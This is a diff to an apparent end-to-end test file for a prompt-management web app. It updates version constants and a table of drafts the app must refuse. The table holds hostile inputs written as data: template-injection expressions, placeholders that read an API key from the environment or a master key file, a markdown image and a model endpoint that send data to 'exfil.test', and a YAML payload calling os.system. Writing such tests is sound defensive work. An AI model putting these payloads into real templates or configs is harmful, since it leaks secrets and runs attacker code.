@@ -26,7 +26,9 @@ from tests.e2e.conftest import Site
 from tests.e2e.evaluators import (
     FRAMES,
     NEW_RULE,
+    NEXT,
     PROMPT,
+    SHIPPED,
     add_run,
     changed_frames,
     changed_rule,
@@ -203,7 +205,10 @@ def test_the_list_shows_every_prompt_and_its_tasks(noor: httpx.Client) -> None:
 
 def test_a_prompt_can_be_read_rule_by_rule(noor: httpx.Client) -> None:
     page = noor.get(f"/prompts/texts/as-delivered/{PROMPT}").text
-    assert "<li>Write one sentence of at most 25 words that ends with a full stop.</li>" in page
+    assert (
+        "<li>Write one sentence of at most 25 words that reads well aloud, as one thought, and ends with a full stop.</li>"
+        in page
+    )
     assert "{{reflection}}" in page
     assert "Speak to the manager" in page
     assert noor.get(f"/prompts/texts/as-delivered/{FRAMES}").status_code == 200
@@ -231,7 +236,7 @@ def test_nothing_beside_prompts_and_runs_can_be_named(noor: httpx.Client, addres
 def test_a_draft_is_kept_and_shows_what_it_changes(noor: httpx.Client, settings: Settings) -> None:
     version = draft(noor, changed_rule().replace("\n", "\r\n"))
     page = noor.get(f"/prompts/versions/{version}").text
-    assert "reflection-questions 1.0.1" in page and "Written by Noor" in page
+    assert f"reflection-questions {NEXT}" in page and "Written by Noor" in page
     assert "<del>Choose</del>" in page and "<ins>Find</ins>" in page
     assert "No run has judged this" in page and "Propose it" not in page
     assert "Wrote a draft" in noor.get("/prompts").text
@@ -242,18 +247,28 @@ REFUSED = {
     "nothing": "",
     "no form": "Write nice questions.",
     "the same": None,
-    "no new version": ("  version: 1.0.0", "  version: 1.0.0", "Choose the place", "Find the place"),
-    "no changelog": ("  version: 1.0.0", "  version: 1.0.1", "Choose the place", "Find the place"),
+    "no new version": (
+        f"  version: {SHIPPED}",
+        f"  version: {SHIPPED}",
+        "Choose what the whole",
+        "Find what the whole",
+    ),
+    "no changelog": (
+        f"  version: {SHIPPED}",
+        f"  version: {NEXT}",
+        "Choose what the whole",
+        "Find what the whole",
+    ),
     "another role": ("\nuser:\n", "\ndeveloper:\n", "", ""),
-    "a logic tag": ("Choose the place", "{% for x in y %}", "", ""),
-    "a comment tag": ("Choose the place", "{# hidden #}", "", ""),
-    "an expression": ("Choose the place", "{{reflection.__class__}}", "", ""),
-    "a call": ("Choose the place", "{{ cycler() }}", "", ""),
-    "the environment": ("Choose the place", "${env:OPENAI_API_KEY}", "", ""),
-    "a file": ("Choose the place", "${file:../key/master.key}", "", ""),
-    "an image": ("Choose the place", "![x](http://exfil.test/?q={{reflection}})", "", ""),
-    "an unknown value": ("Choose the place", "{{roster}}", "", ""),
-    "a value among the rules": ("Choose the place", "{{reflection}}", "", ""),
+    "a logic tag": ("Choose what the whole", "{% for x in y %}", "", ""),
+    "a comment tag": ("Choose what the whole", "{# hidden #}", "", ""),
+    "an expression": ("Choose what the whole", "{{reflection.__class__}}", "", ""),
+    "a call": ("Choose what the whole", "{{ cycler() }}", "", ""),
+    "the environment": ("Choose what the whole", "${env:OPENAI_API_KEY}", "", ""),
+    "a file": ("Choose what the whole", "${file:../key/master.key}", "", ""),
+    "an image": ("Choose what the whole", "![x](http://exfil.test/?q={{reflection}})", "", ""),
+    "an unknown value": ("Choose what the whole", "{{roster}}", "", ""),
+    "a value among the rules": ("Choose what the whole", "{{reflection}}", "", ""),
     "a value without its fence": ("<reflection>\n{{reflection}}\n</reflection>", "{{reflection}}", "", ""),
     "a connection": ("model:\n", "model:\n  connection: {endpoint: 'http://exfil.test'}\n", "", ""),
     "a model of its own": ("model:\n", "model:\n  id: exfil\n", "", ""),
@@ -266,7 +281,7 @@ REFUSED = {
     ),
     "a new output": ("outputs:\n", "outputs:\n  - {name: secret, kind: string, required: true}\n", "", ""),
     "a YAML object": ("description:", "description: !!python/object/apply:os.system [id]\nx:", "", ""),
-    "a NUL": ("Choose the place", "Choose\0", "", ""),
+    "a NUL": ("Choose what the whole", "Choose\0", "", ""),
 }
 
 
@@ -282,10 +297,10 @@ def test_a_draft_that_could_do_harm_is_refused_and_its_text_is_kept(noor: httpx.
     elif change is None:
         tried = original
     else:
-        tried = (changed_rule() if change[0] not in ("  version: 1.0.0",) else original).replace(
+        tried = (changed_rule() if change[0] not in (f"  version: {SHIPPED}",) else original).replace(
             *change[:2], 1
         )
-        tried = tried.replace("Find the place", "Choose the place").replace(*change[:2], 1)
+        tried = tried.replace("Find what the whole", "Choose what the whole").replace(*change[:2], 1)
         tried = tried.replace(change[2], change[3]) if change[2] else tried
         assert name == "no new version" or tried != original, "the attack was written"
     before = noor.get("/prompts").text.count('plain-line"')
@@ -417,7 +432,7 @@ def test_a_result_shows_figures_plots_and_both_texts(noor: httpx.Client, setting
     version = draft(noor, changed_rule("5.0.0"))
     add_run(settings, "20260106-000000-gate", version, worse=3)
     page = noor.get("/runs/20260106-000000-gate").text
-    assert "reflection-questions 1.0.1 against As delivered" in page
+    assert f"reflection-questions {NEXT} against As delivered" in page
     for words in (
         "<svg",
         "Worse: all",
